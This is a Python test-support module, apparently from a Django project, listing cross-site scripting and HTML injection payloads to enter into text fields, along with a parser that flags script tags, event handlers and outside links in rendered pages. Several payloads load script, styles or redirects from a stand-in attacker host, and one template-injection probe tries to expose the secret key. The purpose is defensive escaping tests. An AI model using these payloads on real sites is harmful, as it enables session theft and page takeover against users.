"""Text that wants a page to run it, for every text field, and how to look for it in a page."""

from html.parser import HTMLParser
from typing import Final

RUNS: Final = "window.ran=1"
PAYLOADS: Final = (
    f"<script>{RUNS}</script>",
    f"<ScRiPt>{RUNS}</sCrIpT>",
    "<script src=//ond.example.net/x.js></script>",
    f"</script><script>{RUNS}</script>",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f'"><script>{RUNS}</script>',
    f"'><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>",
    f"</textarea><script>{RUNS}</script>",
    f"--><script>{RUNS}</script>",
    f"]]><script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f'"><img src=x onerror="{RUNS}">',
    f"<img src=x:x onerror\t=\n{RUNS}>",
    f"<img/src/onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg/onload={RUNS}//",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>",
    f"<body onload={RUNS}>",
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f'" autofocus onfocus="{RUNS}',
    f"' onmouseover='{RUNS}",
    f"` onmouseover=`{RUNS}`",
    f"<video><source onerror={RUNS}></video>",
    f'<iframe srcdoc="<script>{RUNS}</script>"></iframe>',
    f"<iframe src=javascript:{RUNS}></iframe>",
    f'<a href="javascript:{RUNS}">trykk</a>',
    f'<a href="java&#x09;script:{RUNS}">trykk</a>',
    f"<object data=javascript:{RUNS}></object>",
    f"<embed src=javascript:{RUNS}>",
    "<base href=//ond.example.net/>",
    "<meta http-equiv=refresh content=0;url=//ond.example.net/>",
    "<link rel=stylesheet href=//ond.example.net/x.css>",
    "<style>@import '//ond.example.net/x.css';</style>",
    "<form action=//ond.example.net/><button>send</button></form>",
    f"<button formaction=javascript:{RUNS}>trykk</button>",
    f'<div hx-get="/" hx-on:click="{RUNS}" hx-trigger=load>x</div>',
    f"<template><script>{RUNS}</script></template>",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    "{{ settings.SECRET_KEY }}{% debug %}",
    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{RUNS}",
)
ALL: Final = "\n".join(PAYLOADS)
REPRESENTATIVE: Final = (PAYLOADS[0], PAYLOADS[12], PAYLOADS[23])

_NEVER: Final = frozenset(
    {"iframe", "object", "embed", "base", "style", "math", "video", "animate", "template"}
)
_OWN: Final = ("/static/", "/admin/jsi18n/")
_ADDRESSES: Final = ("href", "src", "action", "formaction", "data", "xlink:href")


class Look(HTMLParser):
    """Reads a page as a browser would and keeps what must not be there."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        is_data = values.get("type") == "application/json"  # no browser runs it
        is_own = values.get("src", "").startswith(_OWN)
        if tag in _NEVER or (tag == "script" and not is_data and not is_own):
            self.dangers.append(self.get_starttag_text() or tag)
        for name, value in values.items():
            address = "".join(value.split()).lower()
            leads_out = name in _ADDRESSES and (
                address.startswith(("javascript:", "data:", "vbscript:", "//ond."))
            )
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc"} or leads_out:
                self.dangers.append(self.get_starttag_text() or tag)
